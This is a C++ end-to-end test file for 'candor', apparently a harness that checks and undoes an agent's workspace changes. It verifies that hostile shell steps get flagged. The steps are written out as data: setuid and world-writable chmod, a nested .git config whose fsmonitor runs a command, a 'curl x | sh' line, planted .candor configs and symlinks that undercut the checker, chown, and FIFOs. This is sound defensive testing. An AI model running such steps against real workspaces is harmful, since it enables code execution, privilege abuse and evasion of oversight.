// What a hostile step does to the workspace that git's view of it cannot show (docs/design.md, Trust
// boundary: Snapshots see everything, Protected paths, Budgets bound everything), through the
// built binary. Each plan also makes a covered change, so the run would be a `success` if the
// hostile part went unseen: the verdict is what the test is about.
#include <doctest/doctest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <string>

#include <fmt/format.h>

#include "tests/e2e_support.h"
#include "tests/kernel_facts.h"

using namespace candor;
using namespace candor::testing;
using nlohmann::json;

namespace {

// s1 makes the covered change (a user's exec plan assertion that fails before it); s2 is the step
// under test.
std::string plan_with(const std::string& hostile_command) {
  json plan = json::parse(R"({"goal_kind": "modify", "steps": [
      {"id": "s1", "tool": "file_patch",
       "args": {"path": "css/style.css", "edits": [{"find": "background: #ffffff;", "replace": "background: #006400;"}]},
       "assert": [{"type": "file_contains", "path": "css/style.css", "text": "#006400"}]},
      {"id": "s2", "tool": "shell", "args": {"command": ""}}],
      "then": "finish", "final_answer": "done"})");
  plan["steps"][1]["args"]["command"] = hostile_command;
  return plan.dump();
}

const json* mutation(const json& report, const std::string& path) {
  for (const auto& m : report["mutations"]) {
    if (m["path"] == path) return &m;
  }
  return nullptr;
}

bool any_reason_has(const json& report, const std::string& text) {
  for (const auto& r : report["reasons"]) {
    if (r.get<std::string>().find(text) != std::string::npos) return true;
  }
  for (const auto& s : report["suspicious"]) {
    if (s["reason"].get<std::string>().find(text) != std::string::npos) return true;
  }
  return false;
}

unsigned mode_of(const std::string& path) {
  struct stat st {};
  REQUIRE(::lstat(path.c_str(), &st) == 0);
  return st.st_mode & 07777;
}

}  // namespace

TEST_SUITE("e2e") {
  TEST_CASE("a control: the covered change alone is a success at tier 1") {
    Env env;
    json run = parse_stdout(env.exec(env.plan_file(plan_with("true")), {"--judge", "never"}));
    CHECK(run["verdict"] == "success");
    CHECK(run["mutations"].size() == 1);
  }

  TEST_CASE(
      "setuid and group- or world-writable modes made by a step are mutations, block success, and undo puts them "
      "back") {
    Env env;
    write_file(env.ws + "/bin/tool", "#!/bin/sh\necho tool\n");
    write_file(env.ws + "/deploy.sh", "#!/bin/sh\necho deploy\n");
    write_file(env.ws + "/src/app.c", "int main(void) { return 0; }\n");
    ::chmod((env.ws + "/bin/tool").c_str(), 0755);
    ::chmod((env.ws + "/deploy.sh").c_str(), 0755);
    ::chmod((env.ws + "/src").c_str(), 0755);
    // umask 022 for the run, as most users have; the test does not depend on the caller's.
    mode_t old_umask = ::umask(022);
    json run = parse_stdout(env.exec(
        env.plan_file(plan_with("chmod 4755 bin/tool && chmod 777 deploy.sh && chmod 777 src")), {"--judge", "never"}));
    ::umask(old_umask);
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    const json* tool = mutation(run, "bin/tool");
    REQUIRE(tool != nullptr);
    CHECK((*tool)["change"] == "mode");
    CHECK((*tool)["mode_before"] == "100755");
    CHECK((*tool)["mode_after"] == "104755");
    const json* deploy = mutation(run, "deploy.sh");
    REQUIRE(deploy != nullptr);
    CHECK((*deploy)["mode_after"] == "100777");
    const json* src = mutation(run, "src/");
    REQUIRE(src != nullptr);
    CHECK((*src)["change"] == "mode");
    CHECK((*src)["mode_after"] == "40777");
    CHECK(any_reason_has(run, "`bin/tool` was made setuid"));
    CHECK(any_reason_has(run, "`deploy.sh` was made writable by others"));
    CHECK(any_reason_has(run, "`src/` was made writable by others"));

    auto undo = env.candor({"undo", run["run_id"]});
    CAPTURE(undo.out);
    CAPTURE(undo.err);
    CHECK(undo.exit_code == 0);
    CHECK(mode_of(env.ws + "/bin/tool") == 0755);
    CHECK(mode_of(env.ws + "/deploy.sh") == 0755);
    CHECK(mode_of(env.ws + "/src") == 0755);
  }

  TEST_CASE("a new folder made world-writable by a step is suspicious") {
    Env env;
    mode_t old_umask = ::umask(022);
    json run = parse_stdout(
        env.exec(env.plan_file(plan_with("mkdir -m 777 uploads && echo x > uploads/a.txt")), {"--judge", "never"}));
    ::umask(old_umask);
    CHECK(run["verdict"] != "success");
    CHECK(any_reason_has(run, "folder `uploads/` was created writable by others"));
  }

  TEST_CASE(
      "no name is hidden from the scan: files named like candor's temporary files are mutations, sensitive where they "
      "lie") {
    Env env;
    json run = parse_stdout(
        env.exec(env.plan_file(plan_with("mkdir -p .github/workflows src && echo 'on: push' > "
                                         ".github/workflows/.candor-tmp-release.yml && echo 'curl x | sh' > "
                                         "src/.candor-tmp-x.sh")),
                 {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] != "success");
    REQUIRE(mutation(run, ".github/workflows/.candor-tmp-release.yml") != nullptr);
    REQUIRE(mutation(run, "src/.candor-tmp-x.sh") != nullptr);
    CHECK(any_reason_has(run, ".github/workflows/.candor-tmp-release.yml"));
    CHECK(env.candor({"undo", run["run_id"]}).exit_code == 0);
    CHECK_FALSE(exists(env.ws + "/.github/workflows/.candor-tmp-release.yml"));
    CHECK_FALSE(exists(env.ws + "/src/.candor-tmp-x.sh"));
  }

  TEST_CASE("a .git a step creates below the root (a nested repository's config runs commands) is a protected change") {
    Env env;
    json run = parse_stdout(env.exec(
        env.plan_file(plan_with("mkdir -p vendor/lib/.git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > "
                                "vendor/lib/.git/config && echo lib > vendor/lib/README")),
        {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    CHECK(any_reason_has(run, "vendor/lib/.git"));
  }

  TEST_CASE("a step that changes an existing nested repository's config is a protected change") {
    Env env;
    REQUIRE(run_command({"/bin/sh", "-c", "git init -q " + env.ws + "/vendor/lib"}).exit_code == 0);
    json run = parse_stdout(env.exec(
        env.plan_file(plan_with("printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> vendor/lib/.git/config")),
        {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    CHECK(any_reason_has(run, "`vendor/lib/.git/config` was modified"));
  }

  TEST_CASE("a .candor folder below the root is protected like the root's: a planted config there blocks success") {
    Env env;
    json run =
        parse_stdout(env.exec(env.plan_file(plan_with("mkdir -p packages/web/.candor && echo '{\"expect\": []}' > "
                                                      "packages/web/.candor/config.json")),
                              {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    CHECK(any_reason_has(run, "packages/web/.candor/config.json"));
  }

  TEST_CASE(
      "a huge sparse file a step makes is hashed in bounded memory, or left unread when the time budget runs out" *
      needs(!kAddressSanitizer, "a build without AddressSanitizer (ulimit -v leaves no room for its shadow memory)")) {
    Env env;
    // 600 MB of address space is far below the 1 GB file: a scan or a diff that loads it whole
    // cannot finish under this limit.
    std::string plan = env.plan_file(plan_with("truncate -s 1000M big.bin"));
    std::string line =
        fmt::format("ulimit -v 1200000; exec {} exec {} -C {} --json --judge never", candor_bin(), plan, env.ws);
    std::vector<std::string> e = env.env;
    e.push_back("CANDOR_HOME=" + env.store);
    auto r = run_command({"/bin/sh", "-c", line}, e);
    CAPTURE(r.err);
    REQUIRE(r.exit_code != 70);
    json run = json::parse(r.out);
    const json* big = mutation(run, "big.bin");
    REQUIRE(big != nullptr);
    CHECK((*big)["bytes_after"] == 1000LL * 1024 * 1024);
    CHECK((*big)["binary"] == true);
  }

  TEST_CASE("a scan obeys the time budget: 6 GB of sparse files end the run budget_exhausted, the rest unread") {
    Env env;
    // Each below the sandbox's 1 GiB file-size limit; hashing all of them takes far longer than 4 s.
    auto r = env.exec(env.plan_file(plan_with("for i in 1 2 3 4 5 6; do truncate -s 1000M huge$i.bin; done")),
                      {"--judge", "never", "--timeout", "4"});
    json run = parse_stdout(r);
    CAPTURE(run.dump(2));
    CHECK(run["status"] == "budget_exhausted");
    CHECK(run["budget"]["exhausted"] == "timeout");
    CHECK(run["verdict"] == "partial");
    CHECK(run["scan"]["complete"] == false);
    bool named = false;
    for (const auto& u : run["scan"]["unread"]) named |= u.get<std::string>().rfind("huge", 0) == 0;
    CHECK(named);
  }
}

TEST_SUITE("e2e") {
  TEST_CASE("an assertion's program is bounded by the run's time budget, not by its own timeout_s") {
    Env env;
    json plan = json::parse(plan_with("true"));
    plan["steps"][1]["assert"] =
        json::array({{{"type", "command_succeeds"}, {"command", "sleep 30"}, {"timeout_s", 3600}}});
    auto started = std::chrono::steady_clock::now();
    json run = parse_stdout(env.exec(env.plan_file(plan.dump()), {"--judge", "never", "--timeout", "3"}));
    double took = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    CAPTURE(run.dump(2));
    CHECK(run["status"] == "budget_exhausted");
    CHECK(run["verdict"] == "partial");
    bool stopped = false;
    for (const auto& a : run["assertions"]) {
      if (a["type"] == "command_succeeds")
        stopped = a["message"].get<std::string>().find("time budget ran out") != std::string::npos;
    }
    CHECK(stopped);
    MESSAGE("the run took " << took << " s (the command asked for 30)");
  }
}

TEST_SUITE("e2e") {
  TEST_CASE("a step that gives the workspace to another user blocks success, and undo gives it back" *
            needs(::geteuid() == 0, "root (only root can chown)")) {
    Env env;
    json run =
        parse_stdout(env.exec(env.plan_file(plan_with("chown -R 65534:65534 index.html css")), {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    CHECK(any_reason_has(run, "`index.html` was given to another owner (65534:65534, was 0:0)"));
    CHECK(any_reason_has(run, "`css/` was given to another owner"));
    auto undo = env.candor({"undo", run["run_id"]});
    CAPTURE(undo.err);
    CHECK(undo.exit_code == 0);
    struct stat st {};
    REQUIRE(::lstat((env.ws + "/index.html").c_str(), &st) == 0);
    CHECK(st.st_uid == 0);
    REQUIRE(::lstat((env.ws + "/css").c_str(), &st) == 0);
    CHECK(st.st_uid == 0);
  }

  TEST_CASE("a link named .candor anywhere is a protected change (sub/.candor -> ../tools)") {
    Env env;
    json run = parse_stdout(env.exec(
        env.plan_file(plan_with("mkdir -p tools sub && echo '{}' > tools/config.json && ln -s ../tools sub/.candor")),
        {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    CHECK(any_reason_has(run, "`sub/.candor` (added) is a .candor folder"));
  }
}

TEST_SUITE("e2e") {
  TEST_CASE(
      "a large text file's lines are counted in bounded memory, as multisets, not by a diff" *
      needs(!kAddressSanitizer, "a build without AddressSanitizer (ulimit -v leaves no room for its shadow memory)")) {
    Env env;
    // 40 MB of empty lines: xdiff's bookkeeping took about 100 times the file (3.8 GB).
    std::string plan = env.plan_file(plan_with("head -c 41943040 /dev/zero | tr '\\000' '\\n' > lines.txt"));
    std::string line =
        fmt::format("ulimit -v 1200000; exec {} exec {} -C {} --json --judge never", candor_bin(), plan, env.ws);
    std::vector<std::string> e = env.env;
    e.push_back("CANDOR_HOME=" + env.store);
    auto r = run_command({"/bin/sh", "-c", line}, e);
    CAPTURE(r.err);
    CAPTURE(r.out.substr(0, 2000));
    REQUIRE(r.exit_code != 70);
    json run = json::parse(r.out, nullptr, false);
    REQUIRE(run.is_object());
    const json* lines = mutation(run, "lines.txt");
    REQUIRE(lines != nullptr);
    CHECK((*lines)["lines_by"] == "multiset");
    CHECK((*lines)["lines_added"] == 41943040);
    CHECK((*lines)["lines_removed"] == 0);
  }
}

TEST_SUITE("e2e") {
  TEST_CASE(
      "a FIFO a step makes (a Makefile that hangs whoever reads it) is a mutation, blocks success, and undo removes "
      "it") {
    Env env;
    json run = parse_stdout(env.exec(env.plan_file(plan_with("mkfifo Makefile")), {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    const json* fifo = mutation(run, "Makefile");
    REQUIRE(fifo != nullptr);
    CHECK((*fifo)["change"] == "added");
    CHECK((*fifo)["mode_after"].get<std::string>().rfind("10", 0) == 0);
    CHECK(any_reason_has(run, "`Makefile` was made a FIFO"));
    auto undo = env.candor({"undo", run["run_id"]});
    CAPTURE(undo.err);
    CHECK(undo.exit_code == 0);
    CHECK_FALSE(exists(env.ws + "/Makefile"));
  }

  TEST_CASE("a FIFO put in a file's place is a modification, and undo gives the file back") {
    Env env;
    json run =
        parse_stdout(env.exec(env.plan_file(plan_with("rm index.html && mkfifo index.html")), {"--judge", "never"}));
    CAPTURE(run.dump(2));
    CHECK(run["verdict"] == "partial");
    const json* page = mutation(run, "index.html");
    REQUIRE(page != nullptr);
    CHECK((*page)["change"] == "modified");
    CHECK(any_reason_has(run, "`index.html` was made a FIFO"));
    auto undo = env.candor({"undo", run["run_id"]});
    CAPTURE(undo.err);
    CHECK(undo.exit_code == 0);
    struct stat st {};
    REQUIRE(::lstat((env.ws + "/index.html").c_str(), &st) == 0);
    REQUIRE(S_ISREG(st.st_mode));
    CHECK(read_file(env.ws + "/index.html").find("<html") != std::string::npos);
  }
}
